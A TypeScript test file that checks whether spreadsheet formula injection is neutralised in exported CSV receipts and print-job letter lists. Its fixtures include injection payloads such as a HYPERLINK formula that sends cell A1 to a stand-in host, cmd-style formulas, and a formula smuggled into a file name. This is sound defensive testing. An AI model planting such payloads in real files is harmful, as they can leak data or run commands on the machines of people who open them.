import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { text as readText } from 'node:stream/consumers';
import Papa from 'papaparse';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { openPromise } from 'yauzl';
import { archivedPath } from '#jobs/intake/archive.ts';
import { openInnerHouse, type InnerHouse } from '../house/inner-house.ts';
import { trialCsv } from '../house/trial-csv.ts';

let inner: InnerHouse;
beforeAll(async () => {
  inner = await openInnerHouse({ printing: true });
});
afterAll(() => inner.close());

/** What a spreadsheet would take for a formula: XC3. */
const formulas = [
  '=HYPERLINK("http://example.com/?"&A1;"öppna")',
  '@SUM(1+1)*cmd',
  '-2+3+cmd',
  '+46 8 123 456 78',
  '\t=1+1',
  ' =1+1',
];
const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
const content = trialCsv(
  ...formulas.map((formula, index) => ({
    Number: quoted(`${formula.trim().slice(0, 1)}${index}`),
    Debtor: quoted(formula),
    Name: quoted(formula),
    Street: quoted(formula),
    City: quoted(formula),
    Item: quoted(formula),
  })),
  // The same in documents that are refused, so that receipts quote them.
  ...formulas.map((formula, index) => ({ Number: quoted(`${formula}${index}`), Name: quoted(formula), Issued: quoted(formula) })),
);

test('formulas in names, numbers and file names are inert in every export, and unchanged in the archive (XC3, IS3)', async () => {
  const { file, receipt } = await inner.takeIn('provet', '=cmd+@x.csv', content);
  expect(receipt).toMatchObject({ accepted: { count: 6 }, rejected: { count: 6 } });
  expect(await readFile(archivedPath(inner.house.home, file.sha256), 'utf8')).toBe(content);
  const exports = await csvExports();
  expect(exports.map(({ name }) => name.slice(name.lastIndexOf('/') + 1))).toEqual([
    '000001-_cmd_x.csv.receipt.csv',
    expect.stringMatching(/^J0001.*letters\.csv$/),
  ]);
  for (const { name, text } of exports) {
    for (const cell of cellsOf(text)) {
      expect(/^\s*[=+\-@]|^[\t\r]/.test(cell) && !/^-?\d+(?:[.,]\d+)?$/.test(cell), `${name}: ${cell}`).toBe(false);
    }
  }
  // The receipt still says what was meant, for a person to read.
  const [receiptCsv] = exports.filter(({ name }) => name.includes('receipt'));
  expect(receiptCsv?.text).toContain(`"'=HYPERLINK(""http://example.com/?""&A1;""öppna"")"`);
  expect(receiptCsv?.text).toContain(`"'=cmd+@x.csv"`);
  expect(await inner.violations()).toEqual([]);
});

/** The cells as a spreadsheet sees them. */
const cellsOf = (text: string): readonly string[] =>
  Papa.parse<string[]>(text.replace('\uFEFF', ''), { delimiter: ';', newline: '\r\n' }).data.flat();

interface Export {
  readonly name: string;
  readonly text: string;
}

/** Every CSV that leaves the house: receipts, and the lists of letters inside the print jobs. */
async function csvExports(): Promise<readonly Export[]> {
  const outbox = join(inner.house.home, 'outbox');
  const entries = await readdir(outbox, { recursive: true, withFileTypes: true });
  const paths = entries.filter((entry) => entry.isFile()).map((entry) => join(entry.parentPath, entry.name));
  const receipts = await Promise.all(
    paths.filter((path) => path.endsWith('.csv')).map(async (path) => ({ name: path, text: await readFile(path, 'utf8') })),
  );
  const jobs = await Promise.all(paths.filter((path) => path.endsWith('.zip')).map(csvInside));
  return [...receipts, ...jobs.flat()];
}

async function csvInside(path: string): Promise<Export[]> {
  const archive = await openPromise(path, { lazyEntries: true });
  const found: Export[] = [];
  for await (const entry of archive.eachEntry()) {
    if (!entry.fileName.endsWith('.csv')) continue;
    found.push({ name: entry.fileName, text: await readText(await archive.openReadStreamPromise(entry)) });
  }
  return found;
}
